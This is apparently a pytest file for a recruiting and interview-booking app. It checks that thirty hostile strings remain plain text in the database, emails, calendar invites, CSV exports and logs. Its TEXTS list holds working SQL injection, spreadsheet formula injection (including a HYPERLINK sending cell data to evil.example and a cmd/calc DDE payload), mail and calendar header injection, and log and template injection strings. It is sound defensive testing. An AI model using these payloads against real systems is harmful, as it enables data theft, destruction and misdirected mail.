"""Texts that mean something to a database, a spreadsheet, a log, a mail or a calendar stay text everywhere.

Each is a candidate's name, a job's title, what is written in the chat, and what a recruiter searches for. In
many stands an address to which nothing may ever go.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import asyncpg
import pytest
from icalendar import Calendar

from tests.servers.api import Api, Json, address
from tests.servers.mail import MailServer
from tests.shell.commanding import Terminal, terminal_on
from tests.shell.consoling import Console, signed_in
from tests.shell.corresponding import Correspondence, corresponding
from tests.shell.listening import log_from
from tests.shell.stage import until

MALLORY = "mallory@evil.example"
TEXTS = (
    "'; DROP TABLE interviews; --",
    "' OR '1'='1",
    "\\'; DELETE FROM users WHERE 'a' = 'a",
    "$1$2${}%s%(name)s:name?",
    "x') UNION SELECT access_token FROM calendar_tokens --",
    "$$; TRUNCATE parley.inbox; $$",
    "%' AND pg_sleep(5) IS NULL AND '%' LIKE '",
    "_%\\_",
    f'=HYPERLINK("http://evil.example?"&A1, "{MALLORY}")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '"quoted", and, "commas"',
    f"Sam\r\nBcc: {MALLORY}",
    f"Sam\nTo: {MALLORY}\n\nsurprise",
    f"Sam\u2028Cc: {MALLORY}",
    f"Sam <{MALLORY}>",
    f'"Sam" <{MALLORY}>, x',
    f"=?utf-8?q?Sam=0D=0ABcc:_{MALLORY.replace('@', '=40')}?=",
    f"Sam\r\nATTENDEE:mailto:{MALLORY}",
    f"Sam;ROLE=CHAIR:mailto:{MALLORY}",
    f"Sam\\nEND:VEVENT\\nBEGIN:VEVENT\\nATTENDEE:mailto:{MALLORY}",
    "\x1b[2J\x1b]0;owned\x07Sam",
    'Sam\n{"level": "critical", "text": "owned"}',
    "Sam\r2026-01-01 critical owned",
    "{{ 7 * 7 }}${7*7}<%= 7*7 %>",
)


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    with log_from("info") as stream:
        yield stream


NAMED = """
    WITH job AS (UPDATE jobs SET title = $2, description = $2 WHERE id = (
                     SELECT job_id FROM applications WHERE id = $1)),
        candidate AS (UPDATE users SET name = $2 WHERE id = (
                          SELECT applicant_id FROM applications WHERE id = $1))
    UPDATE applications SET name = $2, cover_letter = $2 WHERE id = $1
"""
"""Whatever our own API refuses: the portal writes to these tables as well."""


async def goes_all_the_way(
    post: Correspondence, portal: asyncpg.Connection[asyncpg.Record], console: Console, text: str
) -> Json:
    """Somebody of that name applies for a job of that name, writes that, and books."""
    api = post.api
    application = await api.application(await api.job(console.recruiter), email=address())
    await portal.execute(NAMED, uuid.UUID(application), text)
    made = await api.made("/interviews", {"application_id": application})
    chat = f"/api/v1/chat/{made['chat_token']}"
    for words in (text, (await api.messages(chat))[0]["options"][0]["value"]):
        taken = await api.call("POST", f"{chat}/messages", {"id": uuid.uuid4().hex, "text": words}, key=None)
        assert taken.status == 202, (text, taken.raw)
        await api.answer_to(chat, taken.json["seq"])
    for page in ("/console", "/console/inbox", "/console/told"):
        assert (await console.get(f"{page}?q={quote(text)}")).status == 200, (page, text)
    return made


async def nothing_waits(api: Api) -> bool:
    found: int = await api.service.pool.fetchval(
        "SELECT count(*) FROM parley.outbox WHERE state = 'pending' AND transport = 'email'"
    )
    return found == 0


def of_calendar(mail: MailServer) -> Iterator[Calendar]:
    for letter in mail.letters:
        for part in letter.message.walk():
            if part.get_content_type() == "text/calendar":
                yield Calendar.from_ical(part.get_payload(decode=True))


def attendees(calendar: Calendar) -> list[str]:
    (entry,) = calendar.walk("VEVENT")
    found = entry.get("ATTENDEE", [])
    return [str(one) for one in (found if isinstance(found, list) else [found])]


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


async def test_thirty_texts_stay_texts_wherever_they_come_out(
    database: str,
    log: io.StringIO,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    async with corresponding(database) as post:
        console = await signed_in(post.api)
        portal = await asyncpg.connect(database)
        made = [await goes_all_the_way(post, portal, console, text) for text in TEXTS]
        await portal.close()
        await until(lambda: nothing_waits(post.api), within=60)
        known = {row["email"] for row in await post.api.service.pool.fetch("SELECT email FROM users")}
        seen = await post.api.call("GET", "/api/v1/insight/interviews.csv?days=90")
        booked = await post.api.service.pool.fetchval(
            "SELECT count(*) FROM interviews WHERE status = 'confirmed'"
        )
    letters_are_for_whom_they_are(post.mail, known)
    assert booked == len(made) == len(TEXTS)
    terminal = terminal_on(database, tmp_path, monkeypatch, capsys)
    await files_hold_no_formula(terminal, tmp_path, seen.raw.decode("utf-8-sig"))
    lines = [json.loads(line) for line in log.getvalue().splitlines()]
    assert lines
    assert not [line for line in lines if "owned" in str(line) or MALLORY in str(line)]


def letters_are_for_whom_they_are(mail: MailServer, known: set[str]) -> None:
    assert len(mail.letters) >= 2 * len(TEXTS)
    assert {letter.recipient for letter in mail.letters} <= known
    for letter in mail.letters:
        headers = [name.lower() for name in letter.message]
        assert len(headers) == len(set(headers)), headers
        assert not {"bcc", "cc"} & set(headers)
    calendars = list(of_calendar(mail))
    assert len(calendars) >= len(TEXTS)
    invited = {one.lower().removeprefix("mailto:") for each in calendars for one in attendees(each)}
    assert invited <= known


async def files_hold_no_formula(terminal: Terminal, folder: Path, figures: str) -> None:
    said = await terminal.run("export", "tables", str(folder / "tables"))
    assert said.code == 0, said
    texts = [figures, *(file.read_text() for file in (folder / "tables").glob("*.csv"))]
    found = [cell for text in texts for cell in cells(text) if cell.startswith(("=", "@", "\t", "\uff1d"))]
    assert found == []
    signs = [cell for text in texts for cell in cells(text) if cell.startswith(("+1", "-1+"))]
    assert signs == []
